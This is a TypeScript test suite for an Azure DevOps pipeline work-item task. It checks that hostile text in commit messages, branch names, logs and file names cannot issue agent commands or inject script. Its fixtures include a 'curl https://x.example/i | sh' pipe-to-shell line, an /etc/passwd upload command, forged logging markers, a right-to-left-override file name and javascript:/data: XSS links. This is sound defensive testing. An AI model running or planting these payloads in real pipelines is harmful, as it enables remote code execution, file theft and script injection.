import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import type { BuildSeed } from '../emulator/harness';
import type { TaskRun } from './agent';
import {
  buildVariables,
  classicRelease,
  failedYamlRun,
  releaseVariables,
  seedClassicRelease,
} from './pipelines';
import { useSession } from './session';

// What whoever can push a branch writes into a run: logging and formatting commands, behind every kind of line
// end the agent or another reader splits on, in any case.
const SET_DEPLOY_TARGET =
  '##vso[task.setvariable variable=DEPLOY_TARGET]prod; curl https://x.example/i | sh #';
const FAIL_TASK = '##vso[task.complete result=Failed;]done';
const PAYLOADS = [
  SET_DEPLOY_TARGET,
  `fix: tidy up ${FAIL_TASK}`,
  'ok\r##VSO[task.setvariable variable=WorkItemAction;isOutput=true]created',
  'ok\u2028##vso[task.uploadsummary]/etc/passwd',
  'ok\u0085##[error]forged error',
  '##[group]forged group',
];

// A screenshot whose name starts a line with a command; Windows refuses a line break in a file name, so there the
// command stands inside the line, which the agent runs as well.
const WINDOWS = process.platform === 'win32';
const SHOT = `shot${WINDOWS ? ' ' : '\n'}##vso[task.setvariable variable=X]x.png`;

/** A failed run carrying the payloads in its commit messages, step name, errors, log lines and test names. */
function hostileRun(id: number): BuildSeed {
  const run = failedYamlRun(id, PAYLOADS);
  return {
    ...run,
    sourceBranch: `refs/heads/${SET_DEPLOY_TARGET}`,
    records: (run.records ?? []).map((record) =>
      record.id === 'test' ? { ...record, name: `npm test ${FAIL_TASK}` } : record,
    ),
    logs: { '4': PAYLOADS },
    changes: PAYLOADS.map((message, index) => ({ id: `${index}`.padStart(40, 'a'), message })),
    testResults: PAYLOADS.map((title) => ({ testCaseTitle: title, outcome: 'Failed', errorMessage: title })),
  };
}

// The session's runner checks every run: each command the agent would run from the output is the task's own.
describe('packaged task: pipeline text cannot command the agent', function () {
  const session = useSession();
  let dir = '';
  beforeEach(() => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'pwi-hostile-'));
    fs.writeFileSync(path.join(dir, SHOT), 'png');
    fs.writeFileSync(path.join(dir, 'invoice\u202egnp.exe.png'), 'png');
  });
  afterEach(() => fs.rmSync(dir, { recursive: true, force: true }));

  const job = (id: number, inputs: Record<string, string>) => ({
    variables: buildVariables(id, {
      'Build.SourceBranch': `refs/heads/${SET_DEPLOY_TARGET}`,
      'Build.SourceBranchName': SET_DEPLOY_TARGET,
      // The files lie in the job's build directory: attachments come only from the job's directories.
      'Agent.BuildDirectory': dir,
      'System.DefaultWorkingDirectory': dir,
    }),
    inputs: { fingerprint: '{{failedStep}} {{firstError}}', attachments: '*.png', ...inputs },
  });

  /** Asserts the agent sees only what the task means: its result, and its outputs and no other variable. */
  function assertOwn(run: TaskRun, result: string, action: string): void {
    assert.equal(run.result, result, run.stdout);
    assert.equal(run.outputs['WorkItemAction'], action, run.stdout);
    const variables = run.commands.filter((c) => c.command === 'task.setvariable');
    assert.deepEqual(
      variables.map((c) => c.properties['variable']),
      ['WorkItemId', 'WorkItemUrl', 'WorkItemAction'],
    );
  }

  it('a dry run prints the plan, the fingerprint and the attachments with every command made inert', async () => {
    await session.emulator.seedBuild(hostileRun(960));
    const run = await session.run(job(960, { dryRun: 'true' }));
    assertOwn(run, 'Succeeded', 'none');
    // Still there to read, one space breaking each marker.
    assert.ok(run.stdout.includes('# #vso[task.setvariable variable=DEPLOY_TARGET]prod'), run.stdout);
    assert.ok(run.stdout.includes('# #VSO[task.setvariable variable=WorkItemAction'), run.stdout);
    assert.match(run.stdout, /^Fingerprint: .*# #vso\[task\.complete result=Failed;\]done/m);
    assert.match(
      run.stdout,
      WINDOWS
        ? /shot # #vso\[task\.setvariable variable=X\]x\.png/
        : /^# #vso\[task\.setvariable variable=X\]x\.png/m,
    );
    // Nothing is saved: the one write is the service's check of the create (validateOnly).
    assert.deepEqual(await session.emulator.workItems(), []);
    assert.deepEqual(await session.writes(), [
      'POST /fabrikam/WebApp/_apis/wit/workitems/$Bug (validateOnly)',
    ]);
  });

  it('a real run files the item and reports its own result and outputs', async () => {
    await session.emulator.seedBuild(hostileRun(961));
    // The first error as a value the field refuses: the warning that names it carries the payload too.
    const run = await session.run(job(961, { fields: 'Microsoft.VSTS.Common.ValueArea={{firstError}}' }));
    const [item] = await session.items(1, run);
    assertOwn(run, 'Succeeded', 'created');
    assert.match(run.warnings.join('\n'), /refused '# #vso\[task\.setvariable variable=DEPLOY_TARGET\]prod/);
    assert.equal(run.outputs['WorkItemId'], String(item!.id));
    assert.ok(!String(item!.fields['System.Title']).includes('\u202e'));
    const names = (item!.relations ?? [])
      .filter((r) => r.rel === 'AttachedFile')
      .map((r) => String(r.attributes['name']));
    assert.ok(names.includes('invoicegnp.exe.png'), names.join(', '));
  });

  it('the network and retry variables a step can set are read without being printed raw', async () => {
    await session.emulator.seedBuild(hostileRun(964));
    const base = job(964, {});
    const run = await session.run({
      ...base,
      variables: {
        ...base.variables,
        'Agent.SkipCertValidation': `false ${SET_DEPLOY_TARGET}`,
        'PipelineWorkItem.RequestTimeout': `30 ${FAIL_TASK}`,
        'PipelineWorkItem.RetryBudget': `60 ${SET_DEPLOY_TARGET}`,
      },
    });
    assertOwn(run, 'Succeeded', 'created');
  });

  it('a commit message a macro put in the description makes no script link in the item', async () => {
    await session.emulator.seedBuild(hostileRun(965));
    // description: 'Last commit: $(Build.SourceVersionMessage)', as the agent hands it over expanded.
    const message =
      'fix <a href="javascript:alert(document.domain)">details</a> <a href=" JaVa&#9;ScRiPt:alert(1)">x</a>' +
      ' <img src="data:text/html,<script>alert(1)</script>">';
    const run = await session.run(job(965, { description: `Last commit: ${message}` }));
    assertOwn(run, 'Succeeded', 'created');
    const [item] = await session.items(1, run);
    const body = String(item!.fields['Microsoft.VSTS.TCM.ReproSteps']);
    assert.ok(!/javascript|data:text/i.test(body.replace(/&#9;/g, '')), body.slice(0, 800));
    assert.match(body, /<a href="#">details<\/a>/, body.slice(0, 800));
  });

  it("a release's web URL a step rewrote to another site links nothing there", async () => {
    const { webUrl } = await seedClassicRelease(session.emulator, classicRelease(58, 'failed'));
    // A test's output printed `##vso[task.setvariable variable=Release.ReleaseWebUrl]https://…`.
    const phishing = 'https://fabrikam-devops.example/_release?releaseId=58';
    const run = await session.run({
      variables: { ...releaseVariables(58, 'Failed', webUrl), 'Release.ReleaseWebUrl': phishing },
    });
    assert.equal(run.outputs['WorkItemAction'], 'created', run.stdout);
    const [item] = await session.items(1, run);
    assert.ok(!JSON.stringify(item).includes('fabrikam-devops.example'), JSON.stringify(item).slice(0, 2000));
    const links = (item!.relations ?? []).filter((r) => r.rel === 'Hyperlink').map((r) => r.url);
    const collection = session.emulator.collectionUrl.replace(/\/?$/, '/');
    assert.deepEqual(links, [
      `${collection}WebApp/_releaseProgress?_a=release-pipeline-progress&releaseId=58`,
    ]);
  });

  it('a service connection id holding a command fails the task with its own result only', async () => {
    await session.emulator.seedBuild(hostileRun(963));
    const run = await session.run(job(963, { connection: `x ${SET_DEPLOY_TARGET}` }));
    assertOwn(run, 'Failed', 'none');
    assert.match(run.resultMessage, /service connection 'x # #vso\[task\.setvariable/);
  });
});
